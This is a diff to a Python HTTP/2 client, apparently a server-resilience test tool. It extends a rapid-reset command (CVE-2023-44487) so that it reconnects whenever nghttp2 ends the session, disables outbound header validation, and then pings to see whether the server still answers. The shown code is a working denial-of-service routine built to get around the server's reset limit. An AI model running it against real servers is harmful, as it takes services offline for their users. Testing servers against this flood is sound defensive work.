@@ -129,11 +129,14 @@ def h2_connect(a):
     ctx.set_alpn_protocols(["h2"])
     raw = socket.create_connection(split(a.connect), timeout=10)
     tls = ctx.wrap_socket(raw)
-    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
-                                                                 header_encoding="utf-8"))
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(
+        client_side=True, header_encoding="utf-8", validate_outbound_headers=False,
+        normalize_outbound_headers=False))
     conn.initiate_connection()
-    conn.max_outbound_frame_size = 16384
     tls.sendall(conn.data_to_send())
+    # the server's SETTINGS (its 1 MiB frame size lets a big header block go in one frame)
+    pump_until(tls, conn, lambda ev: True if isinstance(ev, h2.events.RemoteSettingsChanged)
+               else None)
     return tls, conn
 
 
@@ -154,17 +157,28 @@ def pump_until(tls, conn, done, limit=10):
 
 
 def cmd_rapid_reset(a):
-    tls, conn = h2_connect(a)
+    """nghttp2 ends a session after about 1,000 quick resets (its CVE-2023-44487 bound): the
+    peer reconnects and goes on, as a real attacker would."""
     hdrs = [(":method", "CONNECT"), (":authority", a.authority)]
-    sent = 0
+    sent, conns, tls = 0, 0, None
     while sent < a.streams:
-        for _ in range(min(100, a.streams - sent)):
+        if tls is None:
+            tls, conn = h2_connect(a)
+            conns += 1
+        n = min(100, a.streams - sent)
+        for _ in range(n):
             sid = conn.get_next_available_stream_id()
             conn.send_headers(sid, hdrs)
             conn.reset_stream(sid)
-            sent += 1
-        tls.sendall(conn.data_to_send())
-    print("sent=%d" % sent, flush=True)
+        try:
+            tls.sendall(conn.data_to_send())
+            sent += n
+        except OSError:
+            tls.close()
+            tls = None
+    print("sent=%d connections=%d" % (sent, conns), flush=True)
+    if tls is None:
+        tls, conn = h2_connect(a)
     conn.ping(b"12345678")
     tls.sendall(conn.data_to_send())
     got = pump_until(tls, conn, lambda ev: True if isinstance(ev, h2.events.PingAckReceived)
